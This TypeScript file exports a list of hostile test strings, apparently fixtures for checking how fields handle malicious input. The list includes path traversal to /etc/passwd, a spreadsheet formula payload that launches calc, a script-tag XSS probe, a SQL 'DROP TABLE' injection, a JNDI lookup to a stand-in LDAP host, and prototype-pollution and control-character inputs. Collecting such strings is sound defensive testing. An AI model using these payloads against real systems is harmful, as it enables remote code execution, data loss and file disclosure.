/** Texts that have harmed someone somewhere, for any field that takes a text. */
export const hostile: ReadonlyArray<string> = [
  "../../../../etc/passwd",
  "..\\..\\windows\\system32",
  `"quoted", 'and' "again""`,
  "=cmd|'/C calc'!A0",
  "+1+1",
  "-1|2\\|3",
  "@SUM(A1:A9)",
  "'already an apostrophe",
  "<script>alert(1)</script>",
  "two\r\nlines,and\ta tab",
  "bell \u0007, escape \u001b[31m, delete \u007f",
  "$" + "{jndi:ldap://example.com/a} {{7*7}} %00 %2e%2e%2f",
  "'; DROP TABLE movies; --",
  "__proto__",
  "ends with a noncharacter \uFFFF",
  "\u202Eright to left, é, 映画, 🎬"
]
